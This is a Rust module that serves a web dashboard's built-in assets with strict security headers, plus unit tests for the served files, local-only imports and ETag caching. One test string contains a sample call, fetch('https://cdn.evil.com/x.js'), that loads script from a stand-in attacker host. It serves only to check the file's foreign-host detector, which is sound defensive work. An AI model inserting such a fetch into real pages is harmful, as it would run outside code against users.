//! The web dashboard's files, built into the binary: `/` is its page and `/assets/...` its scripts, style and
//! icon (`crates/api/dashboard/`; plain JavaScript modules and CSS, no build step). Every answer forbids loading
//! anything from another host (`Content-Security-Policy`), and is revalidated by its `ETag` so a new binary's
//! files are used at once. The pages call the REST API with the session cookie ([`crate::users`]).

use std::sync::OnceLock;

use axum::extract::Path;
use axum::http::header::{CACHE_CONTROL, CONTENT_TYPE, ETAG, IF_NONE_MATCH};
use axum::http::{HeaderMap, HeaderValue, StatusCode};
use axum::response::{IntoResponse, Response};
use sha2::{Digest, Sha256};

/// Each file: its path under `/assets/` (the page itself as `index.html`), its type and its bytes.
const FILES: &[(&str, &str, &[u8])] = &[
    ("index.html", "text/html; charset=utf-8", include_bytes!("../dashboard/index.html")),
    ("app.css", "text/css; charset=utf-8", include_bytes!("../dashboard/app.css")),
    ("app.js", "text/javascript; charset=utf-8", include_bytes!("../dashboard/app.js")),
    ("lib.js", "text/javascript; charset=utf-8", include_bytes!("../dashboard/lib.js")),
    ("icon.svg", "image/svg+xml", include_bytes!("../dashboard/icon.svg")),
    ("pages/overview.js", "text/javascript; charset=utf-8", include_bytes!("../dashboard/pages/overview.js")),
    ("pages/messages.js", "text/javascript; charset=utf-8", include_bytes!("../dashboard/pages/messages.js")),
    ("pages/send.js", "text/javascript; charset=utf-8", include_bytes!("../dashboard/pages/send.js")),
    ("pages/users.js", "text/javascript; charset=utf-8", include_bytes!("../dashboard/pages/users.js")),
    ("pages/contacts.js", "text/javascript; charset=utf-8", include_bytes!("../dashboard/pages/contacts.js")),
    ("pages/templates.js", "text/javascript; charset=utf-8", include_bytes!("../dashboard/pages/templates.js")),
    ("pages/campaigns.js", "text/javascript; charset=utf-8", include_bytes!("../dashboard/pages/campaigns.js")),
    ("pages/inbox.js", "text/javascript; charset=utf-8", include_bytes!("../dashboard/pages/inbox.js")),
    ("pages/compliance.js", "text/javascript; charset=utf-8", include_bytes!("../dashboard/pages/compliance.js")),
    ("pages/operator.js", "text/javascript; charset=utf-8", include_bytes!("../dashboard/pages/operator.js")),
    ("pages/developers.js", "text/javascript; charset=utf-8", include_bytes!("../dashboard/pages/developers.js")),
    ("pages/automations.js", "text/javascript; charset=utf-8", include_bytes!("../dashboard/pages/automations.js")),
];

/// Nothing from another host, no inline script or style, no framing.
const CSP: &str = "default-src 'self'; script-src 'self'; style-src 'self'; img-src 'self' data:; \
     connect-src 'self'; font-src 'self'; object-src 'none'; base-uri 'none'; form-action 'self'; \
     frame-ancestors 'none'";

/// Each file's ETag (a hash of its bytes), made once.
fn etags() -> &'static [String] {
    static TAGS: OnceLock<Vec<String>> = OnceLock::new();
    TAGS.get_or_init(|| {
        FILES.iter().map(|(_, _, bytes)| format!("\"{}\"", &hex::encode(Sha256::digest(bytes))[..20])).collect()
    })
}

fn file(name: &str, headers: &HeaderMap) -> Response {
    let Some(i) = FILES.iter().position(|(n, _, _)| *n == name) else {
        return (StatusCode::NOT_FOUND, [(CONTENT_TYPE, "text/plain; charset=utf-8")], "no such file").into_response();
    };
    let (_, kind, bytes) = FILES[i];
    let tag = &etags()[i];
    let fresh =
        headers.get(IF_NONE_MATCH).and_then(|v| v.to_str().ok()).is_some_and(|v| v.split(',').any(|t| t.trim() == tag));
    let mut response =
        if fresh { StatusCode::NOT_MODIFIED.into_response() } else { ([(CONTENT_TYPE, kind)], bytes).into_response() };
    let h = response.headers_mut();
    if let Ok(tag) = HeaderValue::from_str(tag) {
        h.insert(ETAG, tag);
    }
    h.insert(CACHE_CONTROL, HeaderValue::from_static("no-cache"));
    h.insert("content-security-policy", HeaderValue::from_static(CSP));
    h.insert("x-content-type-options", HeaderValue::from_static("nosniff"));
    h.insert("referrer-policy", HeaderValue::from_static("same-origin"));
    h.insert("x-frame-options", HeaderValue::from_static("DENY"));
    response
}

/// `GET /`: the dashboard's page.
pub(crate) async fn index(headers: HeaderMap) -> Response {
    file("index.html", &headers)
}

/// `GET /assets/{*path}`: its scripts, style and icon.
pub(crate) async fn asset(Path(path): Path<String>, headers: HeaderMap) -> Response {
    if path == "index.html" {
        return file("", &headers);
    }
    file(&path, &headers)
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Every file in the dashboard's folder is served, and nothing else is listed: a new file left out of
    /// [`FILES`] fails here, not in a browser.
    #[test]
    fn every_file_in_the_folder_is_served() {
        let root = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("dashboard");
        let mut found = Vec::new();
        let mut dirs = vec![root.clone()];
        while let Some(dir) = dirs.pop() {
            for entry in std::fs::read_dir(&dir).unwrap() {
                let path = entry.unwrap().path();
                if path.is_dir() {
                    dirs.push(path);
                } else {
                    found.push(path.strip_prefix(&root).unwrap().to_string_lossy().replace('\\', "/"));
                }
            }
        }
        found.sort();
        let mut listed: Vec<String> = FILES.iter().map(|(n, _, _)| n.to_string()).collect();
        listed.sort();
        assert_eq!(found, listed);
    }

    /// The scripts import only files that are served, by relative paths: nothing from another host.
    #[test]
    fn scripts_import_only_served_files() {
        for (name, _, bytes) in FILES.iter().filter(|(n, _, _)| n.ends_with(".js")) {
            let text = std::str::from_utf8(bytes).unwrap();
            assert_eq!(foreign_hosts(text), Vec::<String>::new(), "{name} names another host");
            for line in text.lines().filter(|l| l.starts_with("import ")) {
                let target = line.rsplit(['\'', '"']).nth(1).unwrap();
                let dir = std::path::Path::new(name).parent().unwrap();
                let resolved = normalize(&dir.join(target));
                assert!(FILES.iter().any(|(n, _, _)| *n == resolved), "{name} imports {target}, which is not served");
            }
        }
    }

    /// The hosts a text names in URLs, but for SVG's namespace (a name, not an address) and examples on `.example`
    /// hosts (RFC 2606: never a real host), such as a placeholder's.
    fn foreign_hosts(text: &str) -> Vec<String> {
        text.match_indices("://")
            .map(|(i, _)| &text[i + 3..])
            .filter(|rest| !rest.starts_with("www.w3.org/2000/svg"))
            .map(|rest| rest.chars().take_while(|c| c.is_ascii_alphanumeric() || ".-".contains(*c)).collect::<String>())
            .filter(|host| !host.ends_with(".example"))
            .collect()
    }

    #[test]
    fn a_url_of_another_host_is_found() {
        let text =
            "fetch('https://cdn.evil.com/x.js'); const ns = 'http://www.w3.org/2000/svg'; 'https://shop.example/a'";
        assert_eq!(foreign_hosts(text), ["cdn.evil.com"]);
    }

    fn normalize(p: &std::path::Path) -> String {
        let mut parts: Vec<String> = Vec::new();
        for c in p.components() {
            match c.as_os_str().to_string_lossy().as_ref() {
                "." => {}
                ".." => {
                    parts.pop();
                }
                s => parts.push(s.to_string()),
            }
        }
        parts.join("/")
    }

    #[test]
    fn a_known_etag_is_not_sent_again() {
        let first = file("app.js", &HeaderMap::new());
        assert_eq!(first.status(), StatusCode::OK);
        let tag = first.headers().get(ETAG).unwrap().clone();
        assert!(
            first.headers().get("content-security-policy").unwrap().to_str().unwrap().contains("default-src 'self'")
        );
        let mut again = HeaderMap::new();
        again.insert(IF_NONE_MATCH, tag);
        assert_eq!(file("app.js", &again).status(), StatusCode::NOT_MODIFIED);
        assert_eq!(file("../Cargo.toml", &HeaderMap::new()).status(), StatusCode::NOT_FOUND);
    }
}
